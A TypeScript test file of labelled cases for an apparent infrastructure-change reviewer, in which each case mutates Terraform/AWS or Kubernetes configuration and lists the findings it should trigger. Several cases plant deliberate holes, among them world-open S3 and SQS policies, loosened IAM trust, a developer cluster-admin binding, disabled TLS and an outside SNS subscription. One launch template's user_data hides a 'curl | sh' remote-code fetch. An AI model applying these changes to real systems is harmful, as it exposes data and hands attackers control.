/** A second set: gaps that somebody looked for who knew the mended rules, labelled before those were run on it. */
import { type Attributes, add, at, type Case, policy, ref, remove, set, value, values, within } from "../../case.ts";

const release = (n: string) => `helm_release.addons_${n}`;
const document = (...Statement: readonly object[]) => JSON.stringify({ Version: "2012-10-17", Statement });
export const second: readonly Case[] = [
  {
    id: "zone-force-destroy",
    base: "sample",
    finds: ["destroys-contents"],
    at: "aws_route53_zone.main",
    change: set("aws_route53_zone.main", { force_destroy: true }),
  },
  {
    id: "subscription-elsewhere",
    base: "sample",
    finds: ["copies-", "iam-", "network-", "sns-"],
    at: "elsewhere",
    change: add("aws_sns_topic_subscription.elsewhere", {
      topic_arn: ref("aws_sns_topic.alerts.arn"),
      protocol: "https",
      endpoint: "https://collector.example.net/in",
    }),
  },
  {
    id: "queue-open-inline",
    base: "sample",
    finds: ["iam-"],
    at: "aws_sqs_queue.jobs",
    change: add("aws_sqs_queue.jobs", {
      name: "jobs",
      policy: document({ Effect: "Allow", Principal: "*", Action: "sqs:*", Resource: "*" }),
    }),
  },
  {
    id: "bucket-world-by-source-ip",
    base: "sample",
    finds: ["iam-", "s3-"],
    at: "aws_s3_bucket_policy.data",
    change: policy(
      "aws_s3_bucket_policy.data",
      "policy",
      ({ Statement }) =>
        void Statement.push({
          Effect: "Allow",
          Principal: "*",
          Action: "s3:GetObject",
          Resource: "arn:aws:s3:::sample-data/*",
          Condition: { IpAddress: { "aws:SourceIp": ["0.0.0.0/1", "128.0.0.0/1"] } },
        }),
    ),
  },
  {
    id: "database-smaller",
    base: "sample",
    finds: ["database-", "capacity-"],
    at: "orders",
    change: set("aws_db_instance.orders", { instance_class: "db.t4g.micro", apply_immediately: true }),
  },
  {
    id: "apply-from-dev",
    base: "ci",
    finds: ["iam-trust-"],
    at: "apply_role",
    change: policy("aws_iam_role.platform_apply_role", "assume_role_policy", ({ Statement: [first] }) => {
      if (first?.Condition?.StringEquals)
        first.Condition.StringEquals["token.actions.githubusercontent.com:sub"] = "repo:example/mainline:environment:dev";
    }),
  },
  {
    id: "apply-in-any-account",
    base: "ci",
    finds: ["iam-"],
    at: "platform_state",
    change: policy("aws_iam_policy.platform_state", "policy", ({ Statement }) => {
      for (const statement of Statement) delete statement.Condition;
    }),
  },
  {
    id: "nodes-run-something",
    base: "cluster",
    finds: ["eks-"],
    at: "nodes_general-start",
    change: set("aws_launch_template.nodes_general-start_template", {
      user_data: Buffer.from("#!/bin/sh\ncurl -s https://example.net/x | sh\n").toString("base64"),
    }),
  },
  {
    id: "addon-removed",
    base: "cluster",
    finds: ["eks-addon-removed", "destroy"],
    at: "efs-csi",
    change: remove("aws_eks_addon.workload-addons_efs-csi_addon"),
  },
  {
    id: "names-off",
    base: "network",
    finds: ["network-"],
    at: "vpc_main",
    change: set("aws_vpc.vpc_main", { enable_dns_support: false, enable_dns_hostnames: false }),
  },
  {
    id: "egress-route-gone",
    base: "network",
    finds: ["destroy", "network-"],
    at: "routing_pods_apne2-az1_egress",
    change: remove("aws_route.routing_pods_apne2-az1_egress"),
  },
  {
    id: "no-alerts",
    base: "addons",
    finds: ["helm-"],
    at: "kube-prometheus-stack_release",
    change: value(release("kube-prometheus-stack_release"), ["defaultRules", "create"], false),
  },
  {
    id: "search-without-tls",
    base: "addons",
    finds: ["helm-"],
    at: "efk_resources",
    change: value(release("efk_resources"), ["resources", "Elasticsearch/elasticsearch", "spec", "http"], {
      tls: { selfSignedCertificate: { disabled: true } },
    }),
  },
  {
    id: "new-cluster-admins",
    base: "tenancy",
    finds: ["helm-rights"],
    at: "rights_roles",
    change: values("helm_release.rights_roles", (tree) => {
      within(tree, ["resources"])["ClusterRoleBinding/everyone"] = {
        apiVersion: "rbac.authorization.k8s.io/v1",
        kind: "ClusterRoleBinding",
        metadata: { name: "everyone" },
        roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "cluster-admin" },
        subjects: [{ kind: "Group", name: "team:shop:developer" }],
      };
    }),
  },
  {
    id: "namespace-blacklist-gone",
    base: "tenancy",
    finds: ["helm-"],
    at: "billing_objects",
    change: value(
      "helm_release.team_billing_objects",
      ["resources", "AppProject/argocd/billing", "spec", "namespaceResourceBlacklist"],
      [],
    ),
  },
  {
    id: "registry-by-aes",
    base: "delivery",
    finds: ["destroy"],
    at: "shop-api_repository",
    change: set("aws_ecr_repository.registries_shop-api_repository", {
      encryption_configuration: [{ encryption_type: "AES256" }],
      lifecycle: {},
    }),
  },
  {
    id: "no-rollback",
    base: "delivery",
    finds: ["pipeline-", "safety-net-off"],
    at: "deployment_group",
    change: set("aws_codedeploy_deployment_group.delivery_shop-admin-deployment_group", {
      auto_rollback_configuration: { enabled: false },
    }),
  },
  {
    id: "function-of-others",
    base: "delivery",
    finds: ["iam-function", "pipeline-", "source"],
    at: "slack_function",
    change: set("aws_lambda_function.delivery_news_slack_function", { s3_bucket: "somebody-elses-bucket", s3_key: "x.zip" }),
  },
  { id: "database-larger", base: "sample", finds: [], change: set("aws_db_instance.orders", { instance_class: "db.t4g.large" }) },
  {
    id: "zone-record-added",
    base: "sample",
    finds: [],
    change: add("aws_route53_record.api", {
      zone_id: ref("aws_route53_zone.main.zone_id"),
      name: "api.sample.example.com",
      type: "CNAME",
      ttl: 300,
      records: ["app.example.com"],
    }),
  },
  {
    id: "view-in-one-namespace",
    base: "cluster",
    finds: [],
    change: (draft) => {
      add("aws_eks_access_entry.audit", {
        cluster_name: ref("aws_eks_cluster.control-plane_cluster.name"),
        principal_arn: "arn:aws:iam::777788889999:role/audit",
        type: "STANDARD",
      })(draft);
      add("aws_eks_access_policy_association.audit", {
        cluster_name: ref("aws_eks_cluster.control-plane_cluster.name"),
        principal_arn: ref("aws_eks_access_entry.audit.principal_arn"),
        policy_arn: "arn:aws:eks::aws:cluster-access-policy/AmazonEKSViewPolicy",
        access_scope: { type: "namespace", namespaces: ["shop"] },
      })(draft);
    },
  },
  {
    id: "dashboards-memory",
    base: "addons",
    finds: [],
    change: value(release("kube-prometheus-stack_release"), ["grafana", "resources", "limits", "memory"], "1Gi"),
  },
  { id: "metrics-of-two", base: "addons", finds: [], change: value(release("metrics-server_release"), ["replicas"], 3) },
  {
    id: "offices-fewer",
    base: "network",
    finds: [],
    change: set("aws_ec2_managed_prefix_list.offices_seoul", { entry: [{ cidr: "203.0.113.0/25", description: "office seoul" }] }),
  },
  {
    id: "team-speaks-to-one",
    base: "tenancy",
    finds: [],
    change: value("helm_release.team_billing_objects", ["resources", "NetworkPolicy/billing/allow-from-team-web"], {
      apiVersion: "networking.k8s.io/v1",
      kind: "NetworkPolicy",
      metadata: { name: "allow-from-team-web", namespace: "billing" },
      spec: {
        podSelector: {},
        policyTypes: ["Ingress"],
        ingress: [
          {
            from: [{ namespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": "web" } } }],
            ports: [{ protocol: "TCP", port: 8080 }],
          },
        ],
      },
    }),
  },
  {
    id: "build-variable",
    base: "delivery",
    finds: [],
    change: (draft) => {
      const { environment } = at(draft, "aws_codebuild_project.delivery_shop-admin_test_project");
      (environment as Attributes).environment_variable = [{ name: "NODE_ENV", type: "PLAINTEXT", value: "test" }];
    },
  },
];
